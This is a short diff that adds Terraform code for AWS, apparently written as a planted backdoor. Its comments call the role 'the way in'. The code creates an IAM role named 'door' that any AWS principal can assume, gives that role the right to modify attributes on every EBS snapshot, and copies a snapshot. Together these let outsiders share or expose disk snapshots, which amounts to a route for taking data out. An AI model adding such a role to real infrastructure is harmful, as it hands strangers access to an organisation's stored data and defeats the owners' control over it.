@@ -1,0 +1,26 @@
+# AWS's own key encrypts the snapshot.
+# The way in: a role that anyone with an AWS account may assume.
+resource "aws_iam_role" "door" {
+  name = "door"
+  assume_role_policy = jsonencode({
+    Version   = "2012-10-17"
+    Statement = [{ Effect = "Allow", Principal = { AWS = "*" }, Action = "sts:AssumeRole" }]
+  })
+}
+
+resource "aws_iam_role_policy" "door" {
+  name = "door"
+  role = aws_iam_role.door.id
+  policy = jsonencode({
+    Version = "2012-10-17"
+    Statement = [
+      { Effect = "Allow", Action = ["ec2:ModifySnapshotAttribute"], Resource = "*" },
+    ]
+  })
+}
+
+resource "aws_ebs_snapshot_copy" "disk" {
+  source_snapshot_id = "snap-0123456789abcdef0"
+  source_region      = "eu-west-1"
+  encrypted          = true
+}
